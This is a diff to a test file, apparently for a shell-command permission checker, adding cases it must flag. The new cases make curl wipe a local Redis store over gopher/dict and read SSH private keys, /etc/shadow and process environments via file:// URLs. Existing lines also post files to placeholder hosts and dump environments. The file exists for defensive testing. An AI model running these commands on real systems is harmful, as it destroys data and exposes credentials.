@@ -145,6 +145,10 @@ ENVIRONMENT = ask(
 )
 
 NETWORK = ask(
+    # curl's other schemes send what the URL says to the service it names (a database or
+    # Redis on 127.0.0.1 too): gopher carries any bytes
+    "curl gopher://127.0.0.1:6379/_FLUSHALL", "curl dict://127.0.0.1:6379/FLUSHALL", "curl telnet://127.0.0.1:5432",
+    "curl --proto-default gopher 127.0.0.1:6379/_x", "curl --url ldap://x", "curl -s smb://x/share/f",
     "curl -sd x http://example.com", "curl -d x http://x", "curl -dx http://x", "curl --data x http://x",
     "curl --data-raw x http://x", "curl --data-binary @file http://x", "curl --data-urlencode a=b http://x",
     "curl -F f=@file http://x", "curl --form f=@file http://x", "curl -T file http://x",
@@ -279,6 +283,10 @@ SECRET_READS = [
     # they quote each line of a file of names they cannot use, or draw it as a path
     "date -f .env", "date --file=.env", "du --files0-from=.env", "wc --files0-from=.env", "sort --files0-from=.env",
     "tree --fromfile .env", "diff --from-file=.env x", "hostname -F .env",
+    # curl reads local files by their URL
+    "curl file:///home/dev/.ssh/id_rsa", "curl -s FILE:///root/.ssh/id_rsa", "curl file://localhost/etc/shadow",
+    "curl file:///etc/%73hadow", "curl --url file:///proc/1/environ", "curl --proto-default file /etc/shadow",
+    "curl 'file:///root/.ssh/{id_rsa,id_ed25519}'",
     # BSD `ps e` prints each process's environment: the server's secrets, same user
     "ps eww", "ps axe", "ps e -p 1", "ps auxe",
     "awk 'BEGIN{while((getline l < \".env\")>0) print l}'", "awk 'BEGIN{f=\".env\"; getline l < f; print l}'",
@@ -359,3 +367,10 @@ def test_the_table_holds_at_least_150_attempts():
     tables = [RESPELLINGS, WRAPPERS, NESTING_AND_RUN_TIME_WORDS, INTERPRETERS, ENVIRONMENT, NETWORK, NETWORK_FLOORS,
               OUTSIDE_THE_WORKSPACE, SYMLINKS_OUT_OF_THE_WORKSPACE, PROTECTED, SECRET_READS]
     assert sum(len(t) for t in tables) >= 150
+
+
+def test_a_reads_rule_holds_for_a_file_curl_reads_by_its_url(sandbox):
+    policy = {"reads": {"deny": [".env*"]}, **DEFAULT_POLICY}
+    assert_cases(policy, [("bash", bash(f"curl -s file://{sandbox.workspace}/.env"), "deny", "reads.deny[0]"),
+                          ("bash", bash(f"curl -s file://{sandbox.workspace}/README.md"), "allow", None)],
+                 paths=sandbox.context, cwd=sandbox.workspace)
